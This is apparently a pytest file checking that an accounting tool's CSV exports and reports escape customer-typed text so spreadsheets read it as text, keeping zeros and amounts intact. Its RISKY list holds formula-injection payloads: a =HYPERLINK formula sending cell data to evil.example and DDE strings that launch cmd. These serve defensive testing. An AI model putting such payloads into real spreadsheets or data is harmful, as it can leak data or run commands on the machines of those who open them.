"""The CSV exports and ``q2c report --format csv`` opened in a spreadsheet: text that people or
customers typed is text there (never a formula, never a number that loses its zeros), amounts
are plain numbers, and every cell reads back, with Python's csv module, as the text meant."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from unittest import mock
from uuid import UUID

import attrs
import typer
from test_beancount_ledger import issue, manual_line
from typer.testing import CliRunner

from q2c_adapters.accounting.exports import (
    PLAIN_COLUMNS,
    export,
    from_spreadsheet_text,
    spreadsheet_text,
)
from q2c_adapters.cli import app as cli
from q2c_adapters.cli_accounting import register
from q2c_core import Money, QuoteToCash, TaxRate
from q2c_core.domain import customer as customer_module

runner = CliRunner()
exports_cli = typer.Typer()
exports_cli.callback()(lambda: None)
register(exports_cli)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Pay here")'
RISKY = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-Infinity",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _opens_as_text(cell: str) -> bool:
    """What a spreadsheet reads as text, never a formula or a number: a cell with a leading
    ' or one that starts with a letter (or is empty)."""
    return cell == "" or cell.startswith("'") or cell[0].isalpha()


def _acme_with_risky_text(app: QuoteToCash, name: str, reference: str) -> UUID:
    vat = TaxRate.standard(21)
    # a name with a line break ("\r=1+1") is refused now that a name is one line; histories
    # recorded before hold such names, and the exports must still write them safe: the rule is
    # switched off here to record one
    with mock.patch.object(customer_module, "_one_line", lambda *_, **__: None):
        acme = app.register_customer(name, "EUR", account_manager="mia", actor="a", tax_rate=vat)
    line = attrs.evolve(manual_line("L1", "100", vat), description="-5% loyalty =discount")
    credit = attrs.evolve(
        manual_line("L2", "-50", vat),
        description="@refund of deposit",
        price_reason="-50 goodwill, agreed by =Mia",
    )
    invoice = app.draft_invoice(acme, [line, credit], drafted_on=date(2024, 3, 1), actor="bea")
    issue(app, invoice, date(2024, 3, 1))
    payment = app.receive_payment(
        acme, Money.of("10", "EUR"), received_on=date(2024, 3, 5), reference=reference, actor="a"
    )
    app.allocate_payment(payment, allocated_on=date(2024, 3, 5), actor="a")
    return acme


def test_the_spreadsheet_text_rule_is_reversible_and_leaves_plain_words_alone() -> None:
    """Any text, with its leading ' taken off again, is the text; plain words are untouched;
    text that opens as a formula, or starts with ' itself, gets one ' before it."""
    for text in [*RISKY, "Acme", "'s-Hertogenbosch Bakers", "''", "'", "", "O'Brien"]:
        assert from_spreadsheet_text(spreadsheet_text(text)) == text
        assert _opens_as_text(spreadsheet_text(text))
    assert spreadsheet_text("Acme B.V.") == "Acme B.V."
    assert spreadsheet_text(HYPERLINK) == "'" + HYPERLINK
    assert spreadsheet_text("'s-Hertogenbosch Bakers") == "''s-Hertogenbosch Bakers"


def test_a_payment_reference_that_is_a_formula_is_text_in_the_payments_and_invoices_csv() -> None:
    """A customer pays with the reference =HYPERLINK(...): in the payments CSV it must open as
    the text it is, not as a link that sends the sheet's data away. The customer's name, the
    line descriptions and the reference, whatever they start with, read back as typed; the
    -50.00 line stays a plain negative number."""
    for risky in RISKY:
        app = QuoteToCash.open("memory:")
        _acme_with_risky_text(app, name=risky, reference=risky)
        payments = _rows(export(app, "payments", "csv"))
        invoices = _rows(export(app, "invoices", "csv"))
        for row in payments:
            assert row["reference"] == spreadsheet_text(risky) != risky
            assert from_spreadsheet_text(row["reference"]) == risky
            assert from_spreadsheet_text(row["customer"]) == risky
            assert row["amount"] == "10.00"
        for row in invoices:
            assert from_spreadsheet_text(row["customer"]) == risky
            assert _opens_as_text(row["customer"]) and _opens_as_text(row["line_description"])
        described = {from_spreadsheet_text(r["line_description"]): r for r in invoices}
        assert set(described) == {"-5% loyalty =discount", "@refund of deposit"}
        assert described["@refund of deposit"]["line_net"] == "-50.00"
        assert described["@refund of deposit"]["line_unit_price"].startswith("-50")
        # JSON is for programs: the text as typed
        (record,) = json.loads(export(app, "payments", "json"))
        assert record["reference"] == risky


def test_report_csv_writes_typed_text_as_text_and_amounts_as_they_were(tmp_path: Path) -> None:
    """``q2c report customers --format csv`` names the customer =HYPERLINK(...) as text, as
    the exports do; its amounts are plain numbers beside its currency, its id as it is."""
    url = f"sqlite:///{tmp_path / 'q2c.db'}"
    app = QuoteToCash.open(url)
    acme_id = _acme_with_risky_text(app, name=HYPERLINK, reference="-0012")
    app.close()
    for report in ("customers", "aging"):
        args = ["report", report, "--url", url, "--on", "2024-03-31", "--format", "csv"]
        out = runner.invoke(cli, args)
        assert out.exit_code == 0, out.output
        header, *rows = list(csv.reader(io.StringIO(out.stdout)))
        (acme,) = [r for r in rows if r[0] and r[0] != "TOTAL"]
        assert acme[0] == "'" + HYPERLINK
        assert acme[header.index("customer id")] == acme_id.hex  # a key, pasted as it is
        assert acme[header.index("total" if report == "aging" else "open")] == "50.50"
        assert acme[header.index("currency")] == "EUR"


def test_an_allocations_live_flag_reads_true_or_false_in_the_csv_as_in_the_json() -> None:
    """Acme's 10.00 is allocated to its invoice, then the allocation is given back: the payments
    CSV says live false for it and true for the one made again, as the JSON does, not
    Python's False and True."""
    app = QuoteToCash.open("memory:")
    acme = _acme_with_risky_text(app, name="Acme", reference="SEPA-1")
    (payment,) = [p.id for p in app.payments(acme)]
    (first,) = app.payment(payment).live_allocations()
    app.reverse_allocation(
        payment, first.allocation_id, reason="wrong invoice", actor="a",
        reversed_on=date(2024, 3, 6),
    )  # fmt: skip
    app.allocate_payment(payment, allocated_on=date(2024, 3, 7), actor="a")
    rows = _rows(export(app, "payments", "csv"))
    assert [r["allocation_live"] for r in rows] == ["false", "true"]
    (record,) = json.loads(export(app, "payments", "json"))
    assert [a["live"] for a in record["allocations"]] == [False, True]


def test_every_amount_has_its_currencys_cents_and_keeps_every_digit() -> None:
    """Bea types a 1000 licence line, a 12.5 setup line and three 0.125 stickers: the exports
    write their unit prices 1000.00, 12.50 and 0.125 (never 1000, never 0.13), as the line
    nets 1000.00, 12.50 and 0.38 are written, in CSV and JSON alike."""
    app = QuoteToCash.open("memory:")
    vat = TaxRate.standard(21)
    acme = app.register_customer("Acme", "EUR", account_manager="mia", actor="a", tax_rate=vat)
    lines = [
        manual_line("L1", "1000", vat),
        manual_line("L2", "12.5", vat),
        manual_line("L3", "0.125", vat, quantity="3"),
    ]
    invoice = app.draft_invoice(acme, lines, drafted_on=date(2024, 1, 1), actor="bea")
    issue(app, invoice, date(2024, 1, 2))
    rows = _rows(export(app, "invoices", "csv"))
    assert [r["line_unit_price"] for r in rows] == ["1000.00", "12.50", "0.125"]
    assert [r["line_net"] for r in rows] == ["1000.00", "12.50", "0.38"]
    (record,) = json.loads(export(app, "invoices", "json"))
    assert [line["unit_price"] for line in record["lines"]] == ["1000.00", "12.50", "0.125"]
    assert record["net"] == "1012.88"


NUMBER_LIKE = ["0012", "-0012", "+31 20 555 0100", "2024-05", "00123456789012345678", "(12)",
               "$12", "€ 1.000,00", ".5", " 12", "3/4", "12%", "1e5"]  # fmt: skip


def test_a_reference_that_looks_like_a_number_keeps_its_zeros_as_text() -> None:
    """Acme's remittances say 0012 and -0012, its PO number is 00123456789012345678: a
    spreadsheet reads such text as the number 12, -12 or 1.23457E+17 (or a date, 2024-05),
    and the zeros are gone. Written with a ' before them, they open as text and read back as
    typed; a name like Acme, a reference like INV-0012 or SEPA 0012 is written as it is."""
    for text in NUMBER_LIKE:
        assert spreadsheet_text(text) == "'" + text
        assert from_spreadsheet_text(spreadsheet_text(text)) == text
    for text in ["Acme", "INV-0012", "SEPA 0012", "(no request)"]:
        assert spreadsheet_text(text) == text
    for reference in NUMBER_LIKE:
        app = QuoteToCash.open("memory:")
        _acme_with_risky_text(app, name="Acme", reference=reference)
        (row,) = _rows(export(app, "payments", "csv"))
        assert row["reference"] == "'" + reference, reference
        assert from_spreadsheet_text(row["reference"]) == reference
        assert row["amount"] == "10.00" and row["allocation_amount"] == "10.00"
        # q2c's own ids (an allocation's is 32 hex digits, often a digit first) are written plain
        (payment,) = app.payments(app.customers()[0].id)
        assert row["allocation_allocation_id"] == payment.allocations[0].allocation_id


def _expected(record: dict[str, object], column: str, cell: str) -> object:
    """What a CSV cell stands for, to compare with the JSON's value."""
    if cell == "":
        return record.get(column) if record.get(column) in (None, "") else cell
    if cell in ("true", "false") and column.endswith("live"):
        return cell == "true"
    if column in PLAIN_COLUMNS:
        return cell
    assert cell == spreadsheet_text(from_spreadsheet_text(cell)), (column, cell)  # written safe
    return from_spreadsheet_text(cell)


def test_every_csv_cell_of_a_written_file_reads_back_as_the_json_says(tmp_path: Path) -> None:
    """``q2c export invoices|payments --out``: the files, read back with Python's csv module,
    hold in every cell what the JSON export holds (text with its ' taken off), also for a
    remittance of two lines, a CR in a name and references that start with =, - or 0."""
    url = f"sqlite:///{tmp_path / 'q2c.db'}"
    app = QuoteToCash.open(url)
    _acme_with_risky_text(app, name="\r=Acme\n'Bakers'", reference="=1+1\r\nINV 0012\nthanks")
    _acme_with_risky_text(app, name="0012 Holding", reference="-0012")
    app.close()
    for subject, nested in (("invoices", ["lines"]), ("payments", ["allocations", "refunds"])):
        prefixes = {"lines": "line_", "allocations": "allocation_", "refunds": "refund_"}
        written = {}
        for fmt in ("csv", "json"):
            out = tmp_path / f"{subject}.{fmt}"
            args = ["export", subject, "--url", url, "--format", fmt, "--out", str(out)]
            result = runner.invoke(exports_cli, args)
            assert result.exit_code == 0, result.output
            written[fmt] = out
        with written["csv"].open(newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        expected: list[dict[str, object]] = []
        for record in json.loads(written["json"].read_text(encoding="utf-8")):
            own = {k: v for k, v in record.items() if not isinstance(v, list)}
            parts = [
                {prefixes[n] + k: v for k, v in part.items()} for n in nested for part in record[n]
            ]
            expected += [{**own, **part} for part in parts or [{}]]
        assert len(rows) == len(expected) > 1
        for row, want in zip(rows, expected, strict=True):
            for column, cell in row.items():
                assert _expected(want, column, cell) == want.get(column), (column, cell)
